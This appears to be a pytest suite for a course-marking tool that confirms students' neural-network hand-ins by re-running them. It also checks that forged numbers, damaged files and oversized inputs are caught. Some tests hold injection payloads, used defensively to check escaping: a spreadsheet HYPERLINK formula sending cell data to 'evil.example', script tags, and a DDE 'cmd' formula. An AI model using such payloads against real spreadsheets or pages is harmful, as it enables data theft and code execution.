"""Hand-ins are confirmed by running them again, and whatever else is in a file is a line."""

import copy
import csv
import io
import json
import math
import re
from dataclasses import replace

import pytest

from playground import evaluate
from playground.experiments import blocks
from playground.marking import reruns
from playground.marking.__main__ import main
from playground.marking.reruns import Job, excess
from playground.marking.table import cell, csv_text, mark_files
from playground.runs.states import init_state
from playground.runs.training import train
from playground.settings.link import open_link

PART = re.compile(r'(?<=id="hand-in">).*?(?=</script>)', re.DOTALL)


@pytest.fixture(scope="module")
def handin(handed):
    return handed()


@pytest.fixture
def marked(tmp_path, sheet):
    """The rows of some files, by their contents."""

    def marked(*contents):
        paths = []
        for i, content in enumerate(contents):
            paths.append(tmp_path / f"{i:03}.html")
            paths[-1].write_bytes(content.encode() if isinstance(content, str) else content)
        return mark_files(paths, sheet)

    return marked


def claims(handin):
    return json.loads(PART.search(handin)[0])


def forged(handin, change):
    """The file with another part: `change` is told its content."""
    content = claims(handin)
    content = change(content) or content
    return PART.sub(lambda _: json.dumps(content).replace("<", "\\u003c"), handin, count=1)


def run_of(content, name):
    return next(each["run"] for each in content["questions"] if each["id"] == name)


def row_of(rows, name):
    return next(row for row in rows if row.question == name)


def test_what_the_page_hands_in_is_confirmed_bit_for_bit(handin, marked):
    rows = marked(handin)
    assert [(row.question, row.done, row.numbers, row.right, row.finding) for row in rows] == [
        ("1a", "yes", "confirmed", "right", ""),
        ("1b", "yes", "confirmed", "wrong", ""),
        ("2a", "yes", "confirmed", "right", ""),
        ("2b", "yes", "confirmed", "", ""),
        ("3", "yes", "", "", ""),
        ("4", "yes", "confirmed", "", ""),
        ("4b", "yes", "confirmed", "", ""),
        ("5", "yes", "confirmed", "", ""),
    ]
    assert {row.student for row in rows} == {"Kari Nordmann"}
    content = claims(handin)
    assert run_of(content, "1b")["measures"]["plateau_end"] == 203
    assert any(each["diverged"] for each in run_of(content, "2b")["networks"])


def numbers_in(run):
    """Every number of a claim: the table it stands in, and its name."""
    for table in (run["measures"], *run["networks"]):
        for name, value in table.items():
            if name not in {"link", "position"} and value is not None:
                yield table, name, value


@pytest.mark.parametrize("question", ["1a", "1b", "2a", "2b", "4"])
def test_every_invented_digit_is_found_and_named(question, handin, marked):
    names, pages = [], []
    for i, (_, name, value) in enumerate(numbers_in(run_of(claims(handin), question))):

        def invent(content, i=i, name=name, value=value):
            table = list(numbers_in(run_of(content, question)))[i][0]
            table[name] = value + 1 if isinstance(value, int) else math.nextafter(value, 9)

        names.append(name)
        pages.append(forged(handin, invent))
    rows = [row for row in marked(*pages) if row.question == question]
    assert len(rows) == len(names) > 10
    for name, row in zip(names, rows, strict=True):
        assert (row.numbers, row.done) == ("wrong", "no"), name
        assert f"{name} is " in row.finding


def test_numbers_that_are_left_out_are_missed(handin, marked):
    def without(content):
        run_of(content, "1a").update(measures={}, networks=[])
        del run_of(content, "2a")["measures"]["n_below"]
        run_of(content, "2b")["networks"].pop()

    rows = marked(forged(handin, without))
    assert row_of(rows, "1a").numbers == "other run"
    assert re.fullmatch(r"n_below is \d, not nothing", row_of(rows, "2a").finding)
    assert [row_of(rows, each).done for each in ("1a", "2a", "2b")] == ["no"] * 3


def test_a_run_of_another_link_is_not_that_of_the_question(handin, marked):
    def easier(content):
        run = run_of(content, "1a")
        for each in (run, run["networks"][0]):
            each["link"] = each["link"].replace("seed=0.5", "seed=0.6")

    def shorter(content):
        run = run_of(content, "4")
        config = open_link(run["link"]).config
        state = train(config, init_state(config), epochs=3)
        again = reruns.Reruns()
        job = reruns.Job(config, 3)
        again.run([job])
        assert again[job].course.state.epoch == state.epoch
        run.update(epochs=3, measures=run["measures"] | again[job].numbers | {"epoch": 3})
        run["networks"][0].update(again[job].numbers, epochs=3)

    invented, short = marked(forged(handin, easier)), marked(forged(handin, shorter))
    assert row_of(invented, "1a").numbers == "wrong"
    assert row_of(short, "4").numbers == "other run"
    assert row_of(short, "4").finding == "it ended at epoch 3 of 5"


CHANGES = [
    {"epoch": 3, "position": 0, "name": "learning_rate", "value": 0.3, "was": 0.03},
    {"epoch": 3, "position": 0, "name": "1-0-bias", "value": 0.25},
    {"epoch": 5, "position": 7, "name": "batch_size", "value": 4, "was": 10},
    {"epoch": 5, "position": 7, "name": "frozen", "value": ["1-0-1"], "was": []},
    {"epoch": 9, "position": 0, "name": "learning_rate", "value": 0.1, "was": 0.3},
]


def changed_on_its_way(content):
    """The run of question 1a, as the page would have gone through it."""
    claim = run_of(content, "1a")
    config = open_link(claim["link"]).config
    state = train(config, init_state(config), epochs=3)
    parameters = state.parameters.copy()
    parameters[config.hidden_layers[0] * len(config.inputs)] = 0.25
    config = config.replace(learning_rate=0.3)
    state = train(config, replace(state, parameters=parameters), epochs=2)
    state = train(config, state, samples=7)
    config = config.replace(batch_size=4, frozen=("1-0-1",))
    state = train(config, state, epochs=4)
    config = config.replace(learning_rate=0.1)
    train_set, test_set = evaluate(config, train(config, state, epochs=31))
    for name in ("loss", "accuracy"):
        for table in (claim["measures"], claim["networks"][0]):
            table[f"train_{name}"] = getattr(train_set, name)
            table[f"test_{name}"] = getattr(test_set, name)
    claim["measures"]["first_below"] = 6
    claim["networks"][0]["link"] = config.link()
    claim |= {"link": config.link(), "changed": True, "changes": copy.deepcopy(CHANGES)}


def test_a_run_that_was_changed_on_its_way_is_run_again_with_its_changes(handin, marked):
    (row, *_) = marked(forged(handin, changed_on_its_way))
    assert (row.numbers, row.done) == ("confirmed", "yes"), row.finding
    assert row.finding.startswith("learning_rate became 0.3 in epoch 3; 1-0-bias became 0.25")


@pytest.mark.parametrize(
    ("place", "change", "said"),
    [
        (0, {"value": 0.30001}, "train_loss is"),
        (1, {"value": 0.26}, "train_loss is"),
        (3, {"position": 8}, "train_loss is"),
        (4, {"epoch": 10}, "train_loss is"),
        (0, {"epoch": 6}, "do not follow each other"),
        (4, {"position": 10_000}, "an epoch has 250 samples"),
        (4, {"value": 0.2}, "do not lead to its link"),
        (0, {"value": -1}, "learning_rate must be"),
        (1, {"name": "9-0-bias"}, "'9-0-bias' cannot be changed"),
        (1, {"name": "noise", "value": 3}, "'noise' cannot be changed"),
        (1, {"value": "x"}, "1-0-bias must be a number"),
        (3, {"value": None}, "frozen must be"),
    ],
)
def test_an_invented_change_is_found(place, change, said, handin, marked):
    def invent(content):
        changed_on_its_way(content)
        run_of(content, "1a")["changes"][place] |= change

    (row, *_) = marked(forged(handin, invent))
    assert (row.numbers, row.done) == ("wrong", "no")
    assert said in row.finding


def test_what_an_earlier_version_does_not_tell_is_not_held_against_it(handin, marked):
    def earlier(content, **change):
        claim = run_of(content, "1a")
        claim["measures"]["first_below"] = 0
        claim |= change
        del claim["changes"]

    changed, whole = marked(
        forged(handin, lambda content: earlier(content, changed=True)), forged(handin, earlier)
    )[:: len(claims(handin)["questions"])]
    assert (changed.numbers, changed.finding) == (
        "not checked",
        "it was changed on the way, and does not say how",
    )
    assert whole.numbers == "confirmed"


def test_a_question_that_has_changed_since_says_so(handin, marked):
    def older(content):
        run_of(content, "1a")["of"] = "0" * 12
        content["questions"][1]["wording"] = "0" * 12
        content["version"] = "0" * 12

    rows = marked(forged(handin, older))
    assert row_of(rows, "1a").finding == "the question has changed since it was run"
    assert row_of(rows, "1b").finding == "the question was worded otherwise when it was answered"
    assert rows[0].version == "0" * 12


def test_the_seed_of_a_student_is_that_of_the_name(handin, marked):
    rows = marked(forged(handin, lambda content: content.update(student="Ola Nordmann")))
    for name in ("4", "4b"):
        assert row_of(rows, name).numbers == "other run"
        assert row_of(rows, name).finding == "it was run under another name than 'Ola Nordmann'"
    assert row_of(rows, "1a").numbers == "confirmed"


def test_a_network_of_the_students_own_has_to_be_as_good_and_as_small(handin, marked):
    def with_reached(**change):
        return forged(handin, lambda content: content["questions"][-1]["reached"].update(change))

    found = [
        (row.numbers, row.done, row.finding)
        for row in marked(
            with_reached(test_loss=0.0),
            with_reached(units=3),
            with_reached(link="networkShape=8&seed=1"),
            with_reached(changed=True),
        )
        if row.question == "5"
    ]
    assert [each[:2] for each in found[:3]] == [("wrong", "no")] * 3
    assert found[0][2].startswith("test_loss is 0.")
    assert found[1][2] == "units is 4, not 3"
    assert found[3][:2] == ("not checked", "yes")


def test_equal_runs_are_run_once(handin, marked, monkeypatch):
    asked = []
    train_block = blocks.train
    monkeypatch.setattr(blocks, "train", lambda block: asked.append(block) or train_block(block))
    one = {row.question: row.numbers for row in marked(handin)}
    n = sum(len(block.configs) for block in asked)
    asked.clear()
    rows = marked(*[handin] * 30)
    assert sum(len(block.configs) for block in asked) == n
    assert len(rows) == 30 * len(one)
    assert all(one[row.question] == row.numbers for row in rows)


HUGE = "dataset=spiral&networkShape=64,64,64,64,64,64&nPoints=5000&seed=1"


@pytest.mark.parametrize("link", [HUGE, f"{HUGE}&resets=1000", "seed=%00&noise=NaN", "<script>"])
def test_no_link_makes_work_without_end(link, handin, marked, monkeypatch):
    asked = []
    train_block = blocks.train
    monkeypatch.setattr(blocks, "train", lambda block: asked.append(block) or train_block(block))

    def change(content):
        run = run_of(content, "1a")
        run.update(link=link, epochs=10_000)
        run["networks"] = [run["networks"][0] | {"link": link, "epochs": 10_000}] * 50

    rows = marked(forged(handin, change))
    assert row_of(rows, "1a").numbers in {"not checked", "wrong"}
    assert row_of(rows, "2a").numbers == "confirmed"
    assert sum(block.work for block in asked) < 2 * reruns.MOST_WORK


def test_no_number_of_networks_makes_work_without_end(handin, marked):
    def change(content):
        for each in content["questions"]:
            if each["run"]:
                network = run_of(content, "1a")["networks"][0]
                links = [network["link"].replace("seed=0.5", f"seed={k}") for k in range(40)]
                many = [network | {"link": link, "epochs": 0} for link in links]
                each["run"] |= {"networks": many, "epochs": 0}
        content["questions"] += [content["questions"][0] | {"id": f"x{k}"} for k in range(50)]

    rows = marked(forged(handin, change))
    assert len(rows) == 8 + 50
    assert {row_of(rows, name).numbers for name in ("1a", "1b", "2a", "2b", "4")} == {"wrong"}
    assert excess([Job(open_link("seed=1").config, 0)] * 301) == "301 networks"


def damaged(handin):
    """Files that are no hand-ins, and what is said of them."""
    part = PART.search(handin)
    half = handin[: (part.start() + part.end()) // 2]

    def nan(content):
        run_of(content, "1a")["measures"]["train_loss"] = math.nan

    return {
        "empty": (b"", "no hand-in"),
        "cut off before": (handin[: part.start() - 20], "no hand-in"),
        "cut off": (half, "has no end"),
        "not JSON": (half + "</script></html>", "damaged or forged"),
        "without the part": (handin.replace('id="hand-in"', ""), "no hand-in"),
        "Markdown": ("# Week 3\n\n**Name:** Kari", "no hand-in"),
        "another coding": (handin.encode("utf-16"), "no hand-in"),
        "binary": (bytes(range(256)) * 100, "no hand-in"),
        "declarations": ("<![foo[<!x<?" * 100 + handin, "no hand-in"),
        "50 MB": (b"<p>" + b"x" * 50_000_000, "no hand-in"),
        "tags": (b"<a " * 10_000_000, "no hand-in"),
        "endless part": (handin[: part.start()] + "[" * 10_000_000, "has no end"),
        "nested": (PART.sub("[" * 100_000, handin), "damaged or forged"),
        "another sheet": (
            forged(handin, lambda c: c.update(sheet="=week4")),
            "'=week4', not 'week3'",
        ),
        "another format": (
            forged(handin, lambda c: c.update(format=2)),
            "format: Input should be 1",
        ),
        "NaN": (forged(handin, nan), "train_loss: Input should be a finite number"),
        "a list": (forged(handin, lambda _: [1]), "damaged or forged"),
        "twice": (
            forged(handin, lambda c: c["questions"].append(c["questions"][0])),
            "questions.8.id must be",
        ),
        "no claims": (
            forged(handin, lambda c: c["questions"][0].__delitem__("run")),
            "run: Field required",
        ),
        "many": (forged(handin, lambda c: c.update(questions=c["questions"] * 100)), "questions"),
        "long": (
            forged(handin, lambda c: c.update(student="x" * 201)),
            "student: String should have at most 200",
        ),
    }


def test_whatever_else_a_file_holds_is_one_line_of_the_table(handin, marked):
    files = damaged(handin)
    rows = marked(*(content for content, _ in files.values()))
    assert len(rows) == len(files)
    for (name, (_, said)), row in zip(files.items(), rows, strict=True):
        assert said in row.finding, (name, row.finding)
        assert len(row.finding) < 500
        assert not row.question


def test_a_file_that_is_not_there_is_a_line_too(handin, tmp_path, sheet):
    (tmp_path / "kari.html").write_text(handin)
    rows = mark_files([tmp_path / "none.html", tmp_path, tmp_path / "kari.html"], sheet)
    assert ["cannot be read" in row.finding for row in rows[:2]] == [True, True]
    assert len(rows) == 2 + len(sheet.questions)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"</script><script>alert(1)</script>")'


def test_texts_of_students_are_data(handed, marked):
    handin = handed(student=EVIL, q2b={"conclusion": "\t=1+1\n<img src=x>"})
    assert handin.count("<script") == handin.count("</script") == 1
    rows = marked(handin)
    assert rows[0].student == EVIL
    table = list(csv.DictReader(io.StringIO(csv_text(rows))))
    assert table[0]["student"] == f"'{EVIL}"
    assert row_of(rows, "2b").answer == "\t=1+1\n<img src=x>"
    assert table[3]["answer"] == "'\t=1+1\n<img src=x>"


def test_a_cell_that_would_run_begins_with_a_quote_and_a_number_does_not():
    for text in ("=1", "+a", "-a", "@SUM(A1)", "\tx", "\rx", "-1+cmd|' /C calc'!A0", "=", "-"):
        assert cell(text) == f"'{text}"
    for text in ("-3", "+0,5", "-1.5e-7", "-5 %", "all ten", "", "a=b", "'x"):
        assert cell(text) == text
    assert cell(-3) == -3
    assert cell("a\0b") == "ab"


@pytest.mark.parametrize("given", ["0,89", "89 %", "0.87", "91.2", "0.8", "lots"])
def test_a_guess_is_right_where_the_page_says_so(given, handed, marked):
    handin = handed(q1a={"guesses": {"guess": {"given": given}}})
    said = "right" if f"You guessed {given}: right" in handin else "wrong"
    assert row_of(marked(handin), "1a").right == said


def test_help_and_haste_are_in_the_table(handed, marked):
    late = {"guesses": {"guess": {"given": "9", "late": True}}, "hints": 2}
    row = row_of(marked(handed(q1a=late)), "1a")
    assert (row.late, row.hints, row.tries) == ("late", 2, 1)


def test_the_command_writes_a_table_and_a_line_for_each_file(handin, tmp_path, sheet, capsys):
    files = [tmp_path / name for name in ("a.html", "b.html")]
    files[0].write_text(forged(handin, lambda c: c.update(student="\x1b[2JKari")))
    files[1].write_text("")
    out = tmp_path / "marks.csv"
    week3 = "tests/marking/week3.json"
    assert main([*map(str, files), "--sheet", week3, "--out", str(out)]) == 0
    first, second = capsys.readouterr().out.splitlines()
    assert first.startswith("[2JKari: 6 of 8 done, 5 of 7 runs confirmed, 2 of 3 guesses right")
    assert second.startswith("b.html: is no hand-in")
    with out.open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.DictReader(file))
    assert len(table) == len(sheet.questions) + 1


@pytest.mark.parametrize(("sheet", "out"), [("none.json", "a.csv"), ("inf264-4", "none/a.csv")])
def test_a_sheet_or_a_place_that_is_not_there_is_said(sheet, out, tmp_path, capsys):
    assert main(["a.html", "--sheet", sheet, "--out", str(tmp_path / out)]) == 2
    assert "none" in capsys.readouterr().err
